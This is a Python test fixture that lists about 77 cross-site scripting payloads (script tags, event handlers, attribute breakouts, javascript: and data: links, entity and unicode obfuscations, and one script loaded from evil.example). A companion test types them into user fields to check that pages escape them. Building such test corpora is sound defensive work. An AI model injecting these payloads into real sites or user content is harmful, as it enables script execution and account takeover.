"""A corpus of hostile text: what a member might type to run script in someone else's page.

Each payload is plain text as a person could type it into any field (a bio,
a note, a display name). ``test_hostile_text.py`` writes them into every
user-written field, renders every page and email where the field shows and
parses the HTML for script, event attributes and dangerous URLs.

Every payload that could run carries ``XSS`` so a failure points at it.
"""

PAYLOADS: tuple[str, ...] = (
    # Script elements, plain and disguised.
    "<script>alert('XSS1')</script>",
    "<SCRIPT SRC=//evil.example/XSS2.js></SCRIPT>",
    "<scr<script>ipt>alert('XSS3')</scr</script>ipt>",
    "<script/XSS4 src='data:text/javascript,alert(1)'></script>",
    "</textarea><script>alert('XSS5')</script>",
    "</title><script>alert('XSS6')</script>",
    "<!--<script>alert('XSS7')</script>-->",
    "<![CDATA[<script>alert('XSS8')</script>]]>",
    # Event attributes.
    "<img src=x onerror=alert('XSS9')>",
    "<IMG SRC=x ONERROR=alert('XSS10')>",
    "<body onload=alert('XSS11')>",
    "<div onmouseover=\"alert('XSS12')\">hover</div>",
    "<a href='https://example.org' onclick='alert(`XSS13`)'>click</a>",
    "<input autofocus onfocus=alert('XSS14')>",
    "<details open ontoggle=alert('XSS15')>",
    "<video><source onerror=alert('XSS16')></video>",
    "<marquee onstart=alert('XSS17')>",
    "<img src=x onerror\x0b=alert('XSS18')>",
    "<img/src=x/onerror=alert('XSS19')>",
    # Attribute breakouts.
    '"><img src=x onerror=alert("XSS20")>',
    "'><script>alert('XSS21')</script>",
    '" onmouseover="alert(\'XSS22\')" x="',
    "' autofocus onfocus='alert(`XSS23`)' x='",
    "`><svg onload=alert('XSS24')>",
    # SVG and MathML.
    "<svg onload=alert('XSS25')>",
    "<svg><script>alert('XSS26')</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>XSS27</text></a></svg>",
    "<svg><animate onbegin=alert('XSS28') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS29')>",
    # Links in Markdown.
    "[click me](javascript:alert('XSS30'))",
    "[click](JaVaScRiPt:alert('XSS31'))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) XSS32",
    "[click](vbscript:msgbox('XSS33'))",
    "[click](  javascript:alert('XSS34'))",
    "[click](java\tscript:alert('XSS35'))",
    "[click](&#106;avascript:alert('XSS36'))",
    "[click](javascript&#58;alert('XSS37'))",
    "![img](javascript:alert('XSS38'))",
    "![img](x \"onerror=alert('XSS39')\")",
    "[a]: javascript:alert('XSS40')\n\n[link][a]",
    "<javascript:alert('XSS41')>",
    # Links in raw HTML, with entity tricks.
    "<a href='javascript:alert(1)'>XSS42</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)'>XSS43</a>",
    "<a href='&#x6A;avascript&#x3A;alert(1)'>XSS44</a>",
    "<a href='jav&#x09;ascript:alert(1)'>XSS45</a>",
    "<a href=' javascript:alert(1)'>XSS46</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>XSS47</a>",
    "<a href='vbscript:msgbox(1)'>XSS48</a>",
    "<a href='JAVASCRIPT&colon;alert(1)'>XSS49</a>",
    "<form action='javascript:alert(1)'><button>XSS50</button></form>",
    "<button formaction='javascript:alert(1)'>XSS51</button>",
    # Frames, objects, meta, base.
    "<iframe src='javascript:alert(1)'>XSS52</iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>XSS53</iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>XSS54</object>",
    "<embed src='javascript:alert(1)'>XSS55",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>XSS56",
    "<base href='javascript:alert(1)//'>XSS57",
    "<link rel=stylesheet href='javascript:alert(1)'>XSS58",
    # CSS.
    "<div style=\"background:url('javascript:alert(1)')\">XSS59</div>",
    "<div style='width:expression(alert(1))'>XSS60</div>",
    "<style>@import 'javascript:alert(1)';</style>XSS61",
    # Template and unicode tricks.
    "{{ request.user.password }} {% debug %} XSS62",
    "\u202e<script>alert('XSS63')</script>",
    "\ufeff<script>alert('XSS64')</script>",
    "＜script＞alert('XSS65')＜/script＞",
    "<scr\u200bipt>alert('XSS66')</script>",
    "%3Cscript%3Ealert('XSS67')%3C/script%3E",
    "&lt;script&gt;alert('XSS68')&lt;/script&gt;",
    "\\u003cscript\\u003ealert('XSS69')\\u003c/script\\u003e",
)

#: The URL-valued payloads (meeting links, profile links): what must never become an href.
URL_PAYLOADS: tuple[str, ...] = (
    "javascript:alert('XSSU1')",
    "JavaScript:alert('XSSU2')",
    " javascript:alert('XSSU3')",
    "java\tscript:alert('XSSU4')",
    "data:text/html,<script>alert('XSSU5')</script>",
    "vbscript:msgbox('XSSU6')",
    "javascript://example.org/%0aalert('XSSU7')",
    "https://example.org/\"><script>alert('XSSU8')</script>",
)
